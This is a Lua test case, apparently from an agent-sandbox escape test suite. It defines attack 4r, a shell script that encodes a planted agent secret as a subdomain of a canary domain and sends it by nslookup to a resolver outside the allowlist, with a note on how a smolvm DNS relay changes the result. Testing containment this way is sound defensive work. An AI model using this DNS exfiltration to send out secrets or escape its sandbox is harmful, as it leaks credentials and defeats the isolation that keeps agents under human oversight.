-- attack 4 (a resolver off the allowlist): <planted secret>.<canary domain>
-- asked of the canary resolver's own address directly
return {
  id = "4r",
  name = "DNS exfiltration straight to a resolver off the allowlist",
  layer = "network",
  stops = "internal network + seal: no route to any address but the bundle's",
  targets = { "resolver" },
  script = [=[
name="$CORK_ESCAPE_AGENT_SECRET.exfil.escape-canary.invalid"
out=$(timeout 5 nslookup -timeout=2 -retry=1 "$name" "$HOST" 2>&1 | grep -v -F "$CORK_ESCAPE_AGENT_SECRET" | tr '\n' ' ')
echo "resolver $HOST: $out"
case $out in *NXDOMAIN*|*"Non-authoritative answer: Name:"*|*"Connection refused"*) echo "REACHED resolver $HOST: $out";; esac
]=],
  -- under smolvm, port 53 to any address is answered by the gateway's DNS
  -- relay (an NXDOMAIN here would be the relay's, not the canary's)
  smolmachines = { not_applicable = "port 53 to any address goes to smolvm's DNS relay; attack 4 asks this address there" },
}
